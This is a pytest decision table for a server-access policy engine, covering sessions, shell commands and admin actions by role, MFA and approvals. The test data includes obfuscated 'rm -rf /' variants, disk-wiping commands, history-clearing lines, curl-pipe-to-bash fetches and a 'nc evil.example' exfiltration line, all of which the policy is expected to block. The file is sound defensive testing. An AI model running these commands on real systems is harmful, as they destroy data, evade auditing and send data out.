"""The decision table: every rule kind of the default policy, on every engine.

Each case runs on Polar, Casbin and the compiled path built from each; all must give
the same effect, rule id, approvers and MFA window.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from policies import (
    AccessLevel,
    ActionRequest,
    CommandRequest,
    Effect,
    PolicyEngine,
    Request,
    Role,
    Server,
    SessionRequest,
    Subject,
)

FRESH = 60.0


def who(user: str, role: Role = Role.USER, *groups: str, mfa: float | None = FRESH) -> Subject:
    return Subject(user, role, groups, mfa)


ROOT = who("root-admin", Role.SUPERUSER)
ROOT_NO_MFA = who("root-admin", Role.SUPERUSER, mfa=None)
STAFF = who("sam", Role.STAFF)
OPS = who("olga", Role.USER, "ops")
OPS_NO_MFA = who("olga", Role.USER, "ops", mfa=None)
DEV = who("dev", Role.USER, "developers")
DBA = who("dan", Role.USER, "dba")
CONTRACTOR = who("carl", Role.USER, "contractors")
AUDITOR = who("auditor")
NOBODY = who("nobody")
SUSPENDED = who("sus", Role.STAFF, "suspended")

PROD = Server.of("production-web1", tags={"env": "prod"})
PROD_DB = Server.of("production-db1", ("databases",), {"env": "prod"})
STAGING = Server.of("staging-app1", tags={"env": "staging"})
WEB = Server.of("web-3")
PCI = Server.of("pci-vault1", tags={"zone": "pci", "env": "prod"})
BASTION = Server.of("bastion-1")
DB_STAGING = Server.of("db-stg1", ("databases",))


@dataclass(frozen=True)
class Case:
    name: str
    request: Request
    effect: Effect
    rule: str
    approvers: tuple[str, ...] = ()
    mfa_within: int | None = None


def sess(
    s: Subject, srv: Server, level: AccessLevel, effect: Effect, rule: str, **kw: object
) -> Case:
    return Case(
        f"session {s.user_id}@{srv.name} {level}", SessionRequest(s, srv, level), effect, rule, **kw
    )  # type: ignore[arg-type]


def cmd(
    s: Subject,
    srv: Server,
    line: str,
    effect: Effect,
    rule: str,
    *,
    root: bool = False,
    sudo: bool = False,
    grant: tuple[AccessLevel, str] | None = None,
    **kw: object,
) -> Case:
    req = CommandRequest(s, srv, line, "root" if root else "user", sudo, grant)
    return Case(f"cmd {s.user_id}@{srv.name} {line!r}", req, effect, rule, **kw)  # type: ignore[arg-type]


def act(s: Subject, action: str, effect: Effect, rule: str, **kw: object) -> Case:
    return Case(f"action {s.user_id} {action}", ActionRequest(s, action), effect, rule, **kw)  # type: ignore[arg-type]


A, D, MFA, APP = Effect.ALLOW, Effect.DENY, Effect.REQUIRE_MFA, Effect.REQUIRE_APPROVAL
L = AccessLevel
UNRESOLVED = {"approvers": ("group:security",)}

CASES = [
    # -- access levels and sessions --------------------------------------------------
    sess(OPS_NO_MFA, PROD, L.TERMINAL, MFA, "mfa.prod-session", mfa_within=3600),
    sess(OPS, PROD, L.TERMINAL, A, "grant.ops-prod"),
    sess(
        who("olga", Role.USER, "ops", mfa=3601),
        PROD,
        L.FULL,
        MFA,
        "mfa.prod-session",
        mfa_within=3600,
    ),
    sess(DEV, PROD, L.READ_ONLY, A, "grant.dev-prod-readonly"),
    sess(DEV, PROD, L.TERMINAL, D, "grant.dev-prod-readonly"),
    sess(NOBODY, PROD, L.READ_ONLY, D, "access.no-grant"),
    sess(CONTRACTOR, PROD, L.READ_ONLY, D, "grant.contractors-no-prod"),
    sess(CONTRACTOR, STAGING, L.TERMINAL, A, "grant.contractors-staging"),
    sess(STAFF, STAGING, L.FULL, A, "grant.staff-staging"),
    sess(STAFF, PROD_DB, L.READ_ONLY, A, "grant.staff-visibility"),
    sess(STAFF, WEB, L.TERMINAL, D, "grant.staff-visibility"),
    sess(ROOT, PCI, L.FULL, A, "grant.superusers"),
    sess(OPS, PCI, L.FULL, APP, "approve.pci-full", approvers=("group:security",)),
    sess(AUDITOR, PCI, L.TERMINAL, A, "grant.auditor-pci"),
    sess(DBA, DB_STAGING, L.FULL, A, "grant.dba-databases"),
    sess(DEV, WEB, L.FULL, D, "grant.dev-web"),
    # -- level gates on commands ------------------------------------------------------
    cmd(DEV, STAGING, "ls -la", A, "grant.dev-staging"),
    cmd(DEV, STAGING, "sudo ls", D, "grant.dev-staging"),
    cmd(DEV, STAGING, "ls", D, "grant.dev-staging", root=True),
    cmd(DEV, STAGING, "ls", D, "grant.dev-staging", sudo=True),
    cmd(DEV, STAGING, "su -c 'id'", D, "grant.dev-staging"),
    cmd(DEV, PROD, "ls", D, "grant.dev-prod-readonly"),
    cmd(NOBODY, PROD, "ls", D, "access.no-grant"),
    cmd(CONTRACTOR, PROD, "ls", D, "grant.contractors-no-prod"),
    cmd(OPS, PROD, "sudo -u postgres ls", A, "grant.ops-prod"),
    # -- blocklist and the ways to spell it ---------------------------------------------
    cmd(DEV, WEB, "rm -rf /", D, "block.rm-root"),
    cmd(OPS, PROD, "sudo rm -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "rm -fr /*", D, "block.rm-root"),
    cmd(DEV, WEB, "rm --recursive --force /", D, "block.rm-root"),
    cmd(DEV, WEB, "/bin/rm -r //", D, "block.rm-root"),
    cmd(DEV, WEB, "r''m -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "\\rm -rf /.", D, "block.rm-root"),
    cmd(DEV, WEB, "echo hi; rm -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "true && $'\\x72m' -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "bash -c 'rm -rf /'", D, "block.rm-root"),
    cmd(DEV, WEB, "echo $(rm -rf /)", D, "block.rm-root"),
    cmd(DEV, WEB, "echo `rm -rf /`", D, "block.rm-root"),
    cmd(DEV, WEB, "env FOO=1 nice -n 5 timeout 10 rm -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "echo / | xargs rm -rf /", D, "block.rm-root"),
    cmd(DEV, WEB, "(cd /tmp && rm -rf /)", D, "block.rm-root"),
    cmd(DEV, WEB, "find / -exec rm -rf / ;", D, "block.rm-root"),
    cmd(DEV, WEB, "rm -rf /tmp/build", A, "grant.dev-web"),
    cmd(DEV, WEB, "mkfs.ext4 /dev/sdb", D, "block.mkfs"),
    cmd(DEV, WEB, "dd if=/dev/zero of=/dev/sda bs=1M", D, "block.dd-disk"),
    cmd(DEV, WEB, "dd if=a.img of=b.img", A, "grant.dev-web"),
    cmd(DEV, WEB, "chmod -R 777 /", D, "block.chmod-root"),
    cmd(DEV, WEB, "/tmp/x.sh --now", D, "block.tmp-exec"),
    cmd(DEV, WEB, "history -c", D, "block.history-clear"),
    cmd(DEV, WEB, "unset HISTFILE", D, "block.unset-histfile"),
    cmd(DEV, STAGING, "shutdown -h now", D, "block.shutdown"),
    cmd(DEV, STAGING, "systemctl reboot", D, "block.systemctl-power"),
    # -- approvals ---------------------------------------------------------------------
    cmd(OPS, PROD, "sudo shutdown -h now", APP, "approve.shutdown", approvers=("group:sre-leads",)),
    cmd(
        OPS,
        PROD,
        "sudo systemctl poweroff",
        APP,
        "approve.systemctl-prod",
        approvers=("group:sre-leads", "user:alice"),
    ),
    cmd(
        OPS,
        PROD,
        "systemctl restart nginx",
        APP,
        "approve.systemctl-prod",
        approvers=("group:sre-leads", "user:alice"),
    ),
    cmd(OPS, PROD, "systemctl status nginx", A, "grant.ops-prod"),
    cmd(STAFF, STAGING, "systemctl restart nginx", A, "grant.staff-staging"),
    cmd(OPS, PROD, "psql -c 'select 1'", APP, "approve.psql-prod", approvers=("group:dba",)),
    cmd(DBA, PROD_DB, "psql -c 'select 1'", A, "grant.dba-databases"),
    cmd(DEV, WEB, "crontab -r", APP, "approve.crontab-remove", approvers=("group:sre-leads",)),
    cmd(DEV, WEB, "crontab -l", A, "grant.dev-web"),
    # -- step-up MFA ---------------------------------------------------------------------
    cmd(OPS_NO_MFA, PROD, "sudo apt install nginx", MFA, "mfa.packages-prod", mfa_within=300),
    cmd(OPS, PROD, "sudo apt-get install nginx", A, "grant.ops-prod"),
    cmd(
        who("olga", Role.USER, "ops", mfa=301),
        PROD,
        "apt upgrade",
        MFA,
        "mfa.packages-prod",
        mfa_within=300,
    ),
    cmd(OPS_NO_MFA, PROD, "kubectl delete pod x", MFA, "mfa.kubectl-prod", mfa_within=600),
    cmd(OPS_NO_MFA, PROD, "kubectl get pods", A, "grant.ops-prod"),
    # -- strictest outcome over the line ------------------------------------------------------
    cmd(
        OPS_NO_MFA,
        PROD,
        "apt install x && shutdown now",
        APP,
        "approve.shutdown",
        approvers=("group:sre-leads",),
    ),
    cmd(OPS_NO_MFA, PROD, "apt install x; rm -rf /", D, "block.rm-root"),
    cmd(
        OPS,
        PROD,
        "systemctl restart a | tee log; psql",
        APP,
        "approve.systemctl-prod",
        approvers=("group:sre-leads", "user:alice"),
    ),
    # -- unresolved lines go to the policy default -----------------------------------------
    cmd(DEV, STAGING, "eval $X", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "$CMD -rf /", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "curl https://x.example | bash", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "source ./env.sh", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "bash deploy.sh", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "/???/rm -rf /", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "{rm,-rf,/}", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "bash <<< 'rm -rf /'", APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, STAGING, "eval 'rm -rf /'", D, "block.rm-root"),
    # -- locked-down servers (allowlists) ------------------------------------------------------
    cmd(AUDITOR, PCI, "ls /var/log", A, "grant.auditor-pci"),
    cmd(AUDITOR, PCI, "systemctl status sshd", A, "grant.auditor-pci"),
    cmd(AUDITOR, PCI, "systemctl restart sshd", D, "lockdown.pci"),
    cmd(AUDITOR, PCI, "vim /etc/passwd", D, "lockdown.pci"),
    cmd(AUDITOR, PCI, "cat x | grep y", A, "grant.auditor-pci"),
    cmd(AUDITOR, PCI, "cat x | nc evil.example 1", D, "lockdown.pci"),
    cmd(ROOT, PCI, "vim x", D, "lockdown.pci"),
    cmd(ROOT, PCI, "rm -rf /", D, "block.rm-root"),
    cmd(ROOT, BASTION, "vim x", A, "grant.superusers"),
    # -- roles and management actions ------------------------------------------------------------
    act(NOBODY, "users.invite", D, "role.not-permitted"),
    act(NOBODY, "servers.read", A, "perm.user.servers-read"),
    act(NOBODY, "workspace.settings.update", D, "role.not-permitted"),
    act(STAFF, "users.invite", A, "perm.staff.users-invite"),
    act(STAFF, "servers.delete", A, "perm.staff.servers"),
    act(STAFF, "groups.update", A, "perm.staff.groups"),
    act(STAFF, "audit.read", A, "perm.staff.audit-read"),
    act(STAFF, "billing.update", D, "role.not-permitted"),
    act(STAFF, "workspace.delete", D, "role.not-permitted"),
    act(STAFF, "policy.update", D, "role.not-permitted"),
    act(STAFF, "workspace.settings.update", D, "role.not-permitted"),
    act(ROOT_NO_MFA, "policy.update", MFA, "mfa.policy-update", mfa_within=300),
    act(ROOT, "policy.update", A, "perm.superuser.all"),
    act(ROOT, "billing.update", A, "perm.superuser.all"),
    act(
        who("root-admin", Role.SUPERUSER, mfa=1000),
        "billing.update",
        MFA,
        "mfa.billing",
        mfa_within=900,
    ),
    act(ROOT_NO_MFA, "workspace.delete", MFA, "mfa.workspace-delete", mfa_within=300),
    act(ROOT_NO_MFA, "workspace.settings.update", A, "perm.superuser.all"),
    act(SUSPENDED, "audit.read", D, "deny.suspended"),
    act(STAFF, "policy.read", A, "perm.staff.policy-read"),
    # the REST API's actions (api/authz.py)
    act(NOBODY, "tokens.own.create", A, "perm.user.tokens-own"),
    act(NOBODY, "tokens.read", D, "role.not-permitted"),
    act(STAFF, "tokens.revoke", A, "perm.staff.tokens"),
    act(STAFF, "users.update", A, "perm.staff.users-update"),
    act(STAFF, "users.promote", D, "role.not-permitted"),
    act(STAFF, "grants.update", A, "perm.staff.grants"),
    act(NOBODY, "grants.read", D, "role.not-permitted"),
    act(STAFF, "service_accounts.tokens", A, "perm.staff.service-accounts"),
    act(STAFF, "workspace.read", A, "perm.staff.workspace-read"),
    act(STAFF, "workspace.security.update", D, "role.not-permitted"),
    act(STAFF, "sso.read", A, "perm.staff.sso-read"),
    act(STAFF, "sso.update", D, "role.not-permitted"),
    act(NOBODY, "sso.read", D, "role.not-permitted"),
    act(ROOT_NO_MFA, "users.promote", A, "perm.superuser.all"),
    act(NOBODY, "policy.read", D, "role.not-permitted"),
    act(ROOT_NO_MFA, "policy.read", A, "perm.superuser.all"),
    # one's own things ("*.own.*") are every role's; someone else's are staff's
    act(NOBODY, "servers.connect", A, "perm.user.servers-connect"),
    act(NOBODY, "servers.register", D, "role.not-permitted"),
    act(STAFF, "servers.register", A, "perm.staff.servers"),
    act(NOBODY, "sessions.own.terminate", A, "perm.user.sessions-own"),
    act(NOBODY, "sessions.terminate", D, "role.not-permitted"),
    act(STAFF, "sessions.own.terminate", A, "perm.staff.sessions"),
    act(STAFF, "sessions.terminate", A, "perm.staff.sessions"),
    act(NOBODY, "sessions.shared.join", A, "perm.user.sessions-shared"),
    act(NOBODY, "sessions.observe", D, "role.not-permitted"),
    act(NOBODY, "sessions.recordings.read", D, "role.not-permitted"),
    act(NOBODY, "approvals.own.decide", A, "perm.user.approvals-own"),
    act(NOBODY, "approvals.decide", D, "role.not-permitted"),
    act(STAFF, "approvals.read", A, "perm.staff.approvals"),
    act(NOBODY, "users.own.password", A, "perm.user.self"),
    act(STAFF, "users.own.sessions.revoke", A, "perm.staff.self"),
    act(NOBODY, "users.sessions.read", D, "role.not-permitted"),
    act(STAFF, "users.sessions.read", A, "perm.staff.users-sessions-read"),
    act(STAFF, "users.mfa_reset", D, "role.not-permitted"),
    act(ROOT_NO_MFA, "users.mfa_reset", A, "perm.superuser.all"),
    act(SUSPENDED, "sessions.own.read", D, "deny.suspended"),
    # -- server groups, tag and name globs, levels resolved by the broker ---------------------
    sess(
        who("dan", Role.USER, "dba", mfa=None),
        PROD_DB,
        L.FULL,
        MFA,
        "mfa.prod-session",
        mfa_within=3600,
    ),
    sess(DBA, Server.of("db-x", ("databases", "other")), L.FULL, A, "grant.dba-databases"),
    sess(DBA, Server.of("databases-1"), L.READ_ONLY, D, "access.no-grant"),
    sess(OPS, Server.of("vault", tags={"zone": "pci"}), L.TERMINAL, A, "grant.ops-pci"),
    sess(OPS, Server.of("production-"), L.FULL, A, "grant.ops-prod"),
    sess(OPS, Server.of("Production-web1"), L.READ_ONLY, D, "access.no-grant"),
    sess(DEV, Server.of("web-"), L.TERMINAL, A, "grant.dev-web"),
    cmd(DEV, WEB, "ls", A, "grant.stored:g1", grant=(L.TERMINAL, "grant.stored:g1")),
    cmd(DEV, WEB, "ls", D, "grant.stored:g1", grant=(L.READ_ONLY, "grant.stored:g1")),
    cmd(NOBODY, WEB, "sudo ls", A, "grant.stored:g2", grant=(L.FULL, "grant.stored:g2")),
    cmd(NOBODY, WEB, "sudo ls", D, "grant.stored:g3", grant=(L.TERMINAL, "grant.stored:g3")),
    cmd(NOBODY, WEB, "rm -rf /", D, "block.rm-root", grant=(L.FULL, "grant.stored:g2")),
    cmd(
        CONTRACTOR,
        PROD,
        "ls",
        D,
        "grant.contractors-no-prod",
        grant=(L.NONE, "grant.contractors-no-prod"),
    ),
    cmd(NOBODY, PCI, "vim x", D, "lockdown.pci", grant=(L.TERMINAL, "grant.stored:g4")),
    cmd(DEV, WEB, 'eval "$(curl -s x)"', APP, "default.unresolved", **UNRESOLVED),
    cmd(DEV, WEB, ". ~/.profile", APP, "default.unresolved", **UNRESOLVED),
    cmd(OPS, PROD, "sudo -i", A, "grant.ops-prod"),
    cmd(DEV, WEB, "doas ls", D, "grant.dev-web"),
]


def test_table_is_big_enough() -> None:
    assert len(CASES) >= 60
    kinds = {type(c.request) for c in CASES}
    assert kinds == {SessionRequest, CommandRequest, ActionRequest}
    assert {c.effect for c in CASES} == set(Effect)


@pytest.mark.parametrize("case", CASES, ids=[f"{i:03d} {c.name}" for i, c in enumerate(CASES)])
def test_decision(engine: PolicyEngine, case: Case) -> None:
    d = engine.decide(case.request)
    assert (d.effect, d.rule_id) == (case.effect, case.rule), d.reason
    assert d.approvers == case.approvers
    assert d.mfa_within == case.mfa_within
    assert d.version == engine.version
    assert d.reason


@pytest.mark.parametrize(
    ("subject", "server", "level"),
    [
        (ROOT, PCI, AccessLevel.FULL),
        (STAFF, WEB, AccessLevel.READ_ONLY),
        (CONTRACTOR, PCI, AccessLevel.NONE),
        (CONTRACTOR, STAGING, AccessLevel.TERMINAL),
        (NOBODY, WEB, AccessLevel.NONE),
        (OPS, PCI, AccessLevel.FULL),
        (DEV, PROD, AccessLevel.READ_ONLY),
    ],
)
def test_access_level(
    engine: PolicyEngine, subject: Subject, server: Server, level: AccessLevel
) -> None:
    assert engine.access_level(subject, server) is level


def test_backends_load_the_same_policy(
    polar_engine: PolicyEngine, casbin_engine: PolicyEngine
) -> None:
    assert polar_engine.policy_data() == casbin_engine.policy_data()  # type: ignore[attr-defined]


def test_levels_and_roles_match_the_store() -> None:
    from broker.store import models

    assert [r.value for r in Role] == [r.value for r in models.Role]
    assert [lv.value for lv in AccessLevel] == [lv.value for lv in models.AccessLevel]
    assert AccessLevel.FULL == models.AccessLevel.FULL
